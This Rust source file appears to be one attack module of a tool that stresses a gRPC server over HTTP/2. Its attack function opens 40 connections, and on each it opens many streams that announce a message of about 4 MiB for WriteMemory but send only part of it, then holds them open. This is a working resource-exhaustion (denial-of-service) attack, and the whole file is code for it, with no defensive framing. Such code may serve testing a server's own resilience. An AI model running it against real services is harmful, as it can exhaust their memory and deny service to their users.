//! Announcements: 10,000 streams, each of which announces its largest message and sends no more, or of what
//! is charged to nobody, all but its end.

use std::time::Duration;

use crate::attacker::{Order, Tally};
use crate::wire::{DATA, END_HEADERS, HEADERS, Peer, announced, call, call_of, frame, stream};

const CONNECTIONS: u64 = 40;
/// 63 pages and what is around them, as far as a message of WriteMemory may be long.
const LARGEST: u32 = 63 * 65_536 + 65_536;
const STAY: Duration = Duration::from_secs(4);

pub(crate) async fn attack(order: Order) -> Tally {
    let mut all = Tally::default();
    let mut open = Vec::new();
    let each = (order.inputs / CONNECTIONS).clamp(1, 250);
    let write = (call("WriteMemory"), announced(LARGEST).to_vec());
    let question = [&announced(1_024)[..], &[b'a'; 1_000]].concat();
    let health = (call_of("/grpc.health.v1.Health/Check", &[]), question);
    for _ in 0..CONNECTIONS {
        let Ok(mut peer) = Peer::greet(order.target, &[]).await else {
            all.ended += 1;
            continue;
        };
        let mut begin = Vec::new();
        for number in 0..each {
            let (block, message) = if number % 8 == 7 { &health } else { &write };
            begin.extend(frame(HEADERS, END_HEADERS, stream(number), block));
            begin.extend(frame(DATA, 0, stream(number), message));
        }
        all.inputs += each;
        if peer.write(&begin).await.is_ok() {
            open.push(peer);
        }
    }
    tokio::time::sleep(STAY).await;
    for mut peer in open {
        all.saw(0, peer.listen(Duration::from_millis(5), each).await);
    }
    all
}
